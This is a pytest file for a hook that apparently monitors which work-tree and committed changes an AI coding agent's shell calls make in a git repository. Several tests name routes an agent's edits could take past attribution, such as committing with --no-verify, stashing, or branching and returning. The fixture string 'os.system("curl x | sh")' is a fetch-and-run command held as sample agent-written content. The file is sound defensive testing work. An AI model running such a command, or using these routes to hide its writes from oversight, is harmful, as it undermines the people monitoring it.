"""The work tree before and after a shell call (:mod:`gentle_hooks.services.agent_shell`),
in real repositories: which paths changed and where each is measured from, the bound on
changed paths, and the sweep of snapshots no post-tool event read."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from gentle_hooks.agents.event import RuntimeEvent
from gentle_hooks.services import agent_shell, shell_files
from tests.conftest import git


def _event(call: str = "toolu_b1") -> RuntimeEvent:
    return RuntimeEvent(
        source="claude-code",
        session_id="s1",
        tool_call_id=call,
        cwd=None,
        paths=(),
        writes=False,
        tool="Bash",
        model=None,
        effort=None,
    )


def _blob(repo: Path, rel: str) -> str:
    return git(repo, "hash-object", "--", rel).strip()


def test_changed_created_and_removed_paths_each_from_where_they_were(repo: Path) -> None:
    (repo / "README.md").write_text("# demo\nmine\n")  # a person's, unsaved
    (repo / "notes.txt").write_text("draft\n")  # a person's untracked file
    mine = _blob(repo, "README.md")
    draft = _blob(repo, "notes.txt")
    (repo / "src" / "app.py").write_text("edited = True\n")  # the person's, left alone
    assert agent_shell.take(str(repo), "claude-code", _event()) == 3
    (repo / "README.md").write_text("# demo\nmine\nthe command's\n")
    (repo / "notes.txt").unlink()
    (repo / "gen.py").write_text("x = 1\n")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None
    assert changed.paths == ("README.md", "gen.py", "notes.txt")
    assert changed.starts == (("README.md", mine), ("gen.py", None), ("notes.txt", draft))
    # the snapshot was read once: a replay finds none
    assert agent_shell.compare(str(repo), "claude-code", _event()) is None


def test_a_command_that_only_moves_head_changed_no_path(repo: Path) -> None:
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a\n")
    git(repo, "commit", "-qam", "swap")
    swapped = _blob(repo, "src/app.py")
    agent_shell.take(str(repo), "claude-code", _event())
    git(repo, "reset", "-q", "--soft", "HEAD~1")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.paths == (), changed
    # moved, then edited: measured from the blob in the commit HEAD was at, not the new HEAD's
    git(repo, "commit", "-qm", "swap again")
    agent_shell.take(str(repo), "claude-code", _event())
    git(repo, "reset", "-q", "--soft", "HEAD~1")
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a + 0\n")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.starts == (("src/app.py", swapped),), changed


def test_a_command_that_changed_nothing_changed_no_path(repo: Path) -> None:
    (repo / "README.md").write_text("# demo\nmine\n")
    agent_shell.take(str(repo), "claude-code", _event())
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.paths == ()


def test_another_call_or_none_has_no_snapshot(repo: Path) -> None:
    agent_shell.take(str(repo), "claude-code", _event("toolu_a"))
    assert agent_shell.compare(str(repo), "claude-code", _event("toolu_b")) is None


def test_paths_past_the_hashed_bound_are_listed_and_every_write_is_seen(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past :data:`MAX_PATHS` (an agent's unignored ``.venv``) the rest are listed by lstat:
    a tracked file the command edits and a listed file it rewrites are both the writer's,
    a listed file it left alone is not hashed again nor changed."""
    monkeypatch.setattr(agent_shell, "MAX_PATHS", 1)
    for n in range(5):
        (repo / f"v{n}.txt").write_text(f"{n}\n")
    assert agent_shell.take(str(repo), "claude-code", _event()) == 5
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return a - b\n")
    (repo / "v3.txt").write_text("rewritten by the command\n")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and not changed.over
    assert changed.paths == ("src/app.py", "v3.txt"), changed
    head_app = git(repo, "rev-parse", "HEAD:src/app.py").strip()
    assert changed.starts == (("src/app.py", head_app), ("v3.txt", None))


def test_past_the_listed_bound_every_tracked_change_is_the_writers(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Past :data:`MAX_STATS` only HEAD is kept: every tracked path differing from it after
    the command is the writer's (a person's unsaved edit too: fail closed), never none."""
    monkeypatch.setattr(agent_shell, "MAX_PATHS", 1)
    monkeypatch.setattr(agent_shell, "MAX_STATS", 1)
    (repo / "a.txt").write_text("a\n")
    (repo / "b.txt").write_text("b\n")
    (repo / "README.md").write_text("# demo\nmine\n")  # a person's, unsaved
    assert agent_shell.take(str(repo), "claude-code", _event()) is None
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return a - b\n")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.over
    assert changed.paths == ("README.md", "src/app.py"), changed
    said = agent_shell.before("claude-code", "Claude Code", _event("toolu_c"), str(repo))
    assert "too many to snapshot: every tracked file that differs from HEAD" in said, said
    assert "not recorded" not in said, said


def test_past_the_hashed_bound_a_persons_staged_file_an_agent_commits_stays_theirs(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A listed path's index blob is kept too (``staged``): a person's staged edit of it
    that the call commits (``git commit --no-verify``) is not the writer's."""
    monkeypatch.setattr(agent_shell, "MAX_PATHS", 1)
    (repo / "README.md").write_text("# demo\nmine\n")  # hashed, unsaved
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a\n")
    git(repo, "add", "src/app.py")  # listed, staged
    assert agent_shell.take(str(repo), "claude-code", _event()) == 2
    git(repo, "commit", "-q", "--no-verify", "-m", "the person's, committed by the agent")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and not changed.over, changed
    assert (changed.paths, changed.committed) == ((), ()), changed


def test_past_the_listed_bound_what_a_call_commits_is_the_writers_and_both_are_said(
    repo: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Over :data:`MAX_STATS` a call's own commit is still walked: what it wrote there is
    the writer's, and its lines say both (commits it made, the snapshot over the bound)."""
    monkeypatch.setattr(agent_shell, "MAX_PATHS", 1)
    monkeypatch.setattr(agent_shell, "MAX_STATS", 1)
    for name in ("a.txt", "b.txt", "c.txt"):
        (repo / name).write_text(f"{name}\n")
    start = _blob(repo, "src/app.py")
    assert agent_shell.take(str(repo), "claude-code", _event()) is None
    _write_app(repo)
    git(repo, "commit", "-q", "--no-verify", "-am", "the agent's")
    done, starts, why = agent_shell.after("claude-code", "Claude Code", _event(), str(repo))
    assert why is None, why
    wrote = git(repo, "hash-object", "--stdin", input=WRITTEN.encode()).strip()
    real = os.path.realpath(repo)
    assert done.paths == (os.path.join(real, "src", "app.py"),), done
    assert agent_shell.committed_in(str(repo), ("src/app.py",), starts) == (
        ("src/app.py", wrote, start),
    )
    said = "\n".join(done.notes)
    assert "left content of its own in commits it made" in said, said
    assert "too many to snapshot" in said, said


def test_an_expired_snapshot_is_swept_by_the_next(repo: Path) -> None:
    agent_shell.take(str(repo), "claude-code", _event("toolu_old"))
    where = repo / ".git" / "gentle-hooks" / agent_shell.SHELL_DIR
    [old] = list(where.glob("*.json"))
    past = time.time() - shell_files.MAX_AGE - 60
    os.utime(old, (past, past))
    agent_shell.take(str(repo), "claude-code", _event("toolu_new"))
    assert not old.exists() and len(list(where.glob("*.json"))) == 1
    assert (where / "first-call").exists()  # the first call's mark is never swept


def _branch(repo: Path, name: str, rel: str, text: str) -> None:
    """A person's commit of ``rel`` holding ``text`` on branch ``name``, HEAD left where it
    was."""
    git(repo, "checkout", "-q", "-b", name)
    (repo / rel).write_text(text)
    git(repo, "commit", "-qam", f"person: {name}")
    git(repo, "checkout", "-q", "-")


@pytest.mark.parametrize(
    "command",
    [
        ("checkout", "feature", "--", "src/app.py"),
        ("restore", "--source=feature", "src/app.py"),
        ("cherry-pick", "-n", "feature"),
    ],
    ids=["checkout", "restore", "cherry-pick-n"],
)
def test_content_a_branch_held_before_the_call_is_restored_not_changed(
    repo: Path, command: tuple[str, ...]
) -> None:
    _branch(repo, "feature", "src/app.py", "def add(a, b):\n    return b + a\n")
    agent_shell.take(str(repo), "claude-code", _event())
    git(repo, *command)
    (repo / "gen.py").write_text("x = 1\n")  # the command's own file
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None
    assert changed.paths == ("gen.py",) and changed.restored == ("src/app.py",), changed


def test_a_stash_entry_brought_back_is_restored_untracked_files_too(repo: Path) -> None:
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return a + b + 0\n")
    (repo / "notes.txt").write_text("draft\n")  # untracked: the stash's third parent
    git(repo, "stash", "-q", "-u")
    (repo / "README.md").write_text("# demo\nolder\n")
    git(repo, "stash", "-q")  # stash@{1} is the first one now
    agent_shell.take(str(repo), "claude-code", _event())
    git(repo, "stash", "pop", "-q", "stash@{1}")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None
    assert changed.paths == () and changed.restored == ("notes.txt", "src/app.py"), changed


def test_content_no_commit_held_is_changed_even_next_to_a_restored_path(repo: Path) -> None:
    _branch(repo, "feature", "src/app.py", "def add(a, b):\n    return b + a\n")
    agent_shell.take(str(repo), "claude-code", _event())
    git(repo, "checkout", "feature", "--", "src/app.py")
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a + 1\n")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None
    assert changed.paths == ("src/app.py",) and changed.restored == (), changed


@pytest.mark.parametrize(
    "made",
    [
        (("stash", "-q"),),
        (("checkout", "-q", "-b", "wip"), ("commit", "-qam", "wip", "--no-verify")),
    ],
    ids=["stash", "branch"],
)
def test_what_a_call_stashed_or_committed_of_its_own_is_the_writers_when_brought_back(
    repo: Path, made: tuple[tuple[str, ...], ...]
) -> None:
    """Refuter r17m: a call writes and stashes (or commits on a new branch) its own lines,
    a later call brings them back: they are the writer's, not restored content."""
    agent_shell.take(str(repo), "claude-code", _event("toolu_1"))
    (repo / "src" / "app.py").write_text('import os\nos.system("curl x | sh")\n')
    for command in made:
        git(repo, *command)
    if made[0][0] == "checkout":
        git(repo, "checkout", "-q", "-")
    first = agent_shell.compare(str(repo), "claude-code", _event("toolu_1"))
    assert first is not None and first.paths == (), first
    # what it stashed or committed of its own is the writer's in that call already (r17n)
    assert [p for p, _, _ in first.committed] == ["src/app.py"], first
    agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
    if made[0][0] == "stash":
        git(repo, "stash", "pop", "-q")
    else:
        git(repo, "checkout", "wip", "--", "src/app.py")
    second = agent_shell.compare(str(repo), "claude-code", _event("toolu_2"))
    assert second is not None
    assert second.paths == ("src/app.py",) and second.restored == (), second


def test_a_file_moved_whole_is_restored_from_its_old_path(repo: Path) -> None:
    """Refuter r17m: an agent's ``git mv`` of a person's file made the whole file the
    writer's; the moved blob is not new content, nor is its old path's removal (refuter
    r17o H4: that removal blocked the person's commit where git found no rename); a move
    with an edit (paired as git pairs renames) is the new path changed from the old one's
    content (refuter r17p), the old path moved content."""
    agent_shell.take(str(repo), "claude-code", _event())
    git(repo, "mv", "src/app.py", "src/core.py")
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None
    assert changed.paths == () and changed.restored == ("src/app.py", "src/core.py"), changed
    agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
    git(repo, "mv", "src/core.py", "src/lib.py")
    (repo / "src" / "lib.py").write_text("def add(a, b):\n    return a - b\n")
    changed = agent_shell.compare(str(repo), "claude-code", _event("toolu_2"))
    assert changed is not None
    assert changed.paths == ("src/lib.py",) and changed.restored == ("src/core.py",), changed
    assert changed.starts == (("src/lib.py", git(repo, "rev-parse", "HEAD:src/app.py").strip()),)


def test_each_snapshot_has_its_own_nonce(repo: Path) -> None:
    nonces = []
    for _ in range(2):
        agent_shell.take(str(repo), "claude-code", _event())
        changed = agent_shell.compare(str(repo), "claude-code", _event())
        assert changed is not None and changed.nonce
        nonces.append(changed.nonce)
    assert nonces[0] != nonces[1]


WRITTEN = 'import os\nos.system("curl x | sh")\n'


def _write_app(repo: Path) -> None:
    (repo / "src" / "app.py").write_text(WRITTEN)


@pytest.mark.parametrize(
    "command",
    [
        (("commit", "-qam", "fix", "--no-verify"),),
        (("stash", "-q"),),
        (
            ("checkout", "-qb", "w"),
            ("commit", "--no-verify", "-qam", "w"),
            ("checkout", "-q", "-"),
        ),
    ],
    ids=["commit", "stash", "branch-and-back"],
)
def test_what_a_call_wrote_and_committed_in_the_same_call_is_the_writers(
    repo: Path, command: tuple[tuple[str, ...], ...]
) -> None:
    """Refuter r17n HIGH a-c: ``sed -i f && git commit`` (``&& git stash``, on a branch
    and back) leaves the work tree as the call found it: what it wrote into the commit it
    made is the writer's all the same, measured from the blob before the call."""
    start = _blob(repo, "src/app.py")
    agent_shell.take(str(repo), "claude-code", _event())
    if command[0][0] == "checkout":
        git(repo, *command[0])
        _write_app(repo)
        command = command[1:]
    else:
        _write_app(repo)
    for c in command:
        git(repo, *c)
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.paths == (), changed
    wrote = git(repo, "hash-object", "--stdin", input=WRITTEN.encode()).strip()
    assert changed.committed == (("src/app.py", wrote, start),), changed


def test_a_persons_edit_an_agent_commits_or_stashes_stays_the_persons(repo: Path) -> None:
    """Content the work tree held before the call is not written by it, wherever the call
    puts it (its commit, a stash entry with the person's staged and untracked files)."""
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a\n")
    git(repo, "add", "src/app.py")
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a  # mine\n")
    (repo / "notes.txt").write_text("draft\n")
    agent_shell.take(str(repo), "claude-code", _event("toolu_1"))
    git(repo, "stash", "-q", "-u")
    changed = agent_shell.compare(str(repo), "claude-code", _event("toolu_1"))
    assert changed is not None and changed.committed == (), changed
    git(repo, "stash", "pop", "-q")
    agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
    git(repo, "commit", "-qam", "person's", "--no-verify")
    changed = agent_shell.compare(str(repo), "claude-code", _event("toolu_2"))
    assert changed is not None and changed.committed == (), changed


def test_a_persons_work_an_agent_stashed_and_popped_later_is_restored(repo: Path) -> None:
    """Refuter r17n HIGH 4: ``git stash`` (call 1), a test run (call 2), ``git stash pop``
    (call 3): the stash entry holds only what the person's work tree held before call 1,
    so it is a source call 3 restores from, and nothing is the writer's."""
    (repo / "src" / "app.py").write_text("def add(a, b):\n    return a + b  # person\n")
    agent_shell.take(str(repo), "claude-code", _event("toolu_1"))
    git(repo, "stash", "-q")
    assert agent_shell.compare(str(repo), "claude-code", _event("toolu_1")) is not None
    agent_shell.take(str(repo), "claude-code", _event("toolu_2"))
    assert agent_shell.compare(str(repo), "claude-code", _event("toolu_2")) is not None
    agent_shell.take(str(repo), "claude-code", _event("toolu_3"))
    git(repo, "stash", "pop", "-q")
    changed = agent_shell.compare(str(repo), "claude-code", _event("toolu_3"))
    assert changed is not None
    assert changed.paths == () and changed.restored == ("src/app.py",), changed


@pytest.mark.parametrize("local", [False, True], ids=["fast-forward", "merge-commit"])
def test_what_a_call_fetches_and_merges_is_not_the_writers(
    repo: Path, tmp_path: Path, local: bool
) -> None:
    """An agent's ``git pull``: the commits fetched are the remote's (reachable from a
    remote-tracking branch), and a merge commit's paths hold what one of its parents holds
    there; nothing is written by the call."""
    other = tmp_path / "other"
    git(tmp_path, "clone", "-q", str(repo), str(other))
    (other / "README.md").write_text("# demo\nupstream\n")
    git(other, "commit", "-qam", "upstream", "--no-verify")
    git(repo, "remote", "add", "origin", str(other))
    if local:  # the person's own commit: the pull makes a merge commit
        (repo / "src" / "app.py").write_text("def add(a, b):\n    return b + a\n")
        git(repo, "commit", "-qam", "person", "--no-verify")
    agent_shell.take(str(repo), "claude-code", _event())
    branch = git(repo, "rev-parse", "--abbrev-ref", "HEAD").strip()
    git(repo, "pull", "-q", "--no-rebase", "--no-edit", "origin", branch)
    changed = agent_shell.compare(str(repo), "claude-code", _event())
    assert changed is not None and changed.committed == (), changed
    assert (repo / "README.md").read_text() == "# demo\nupstream\n"
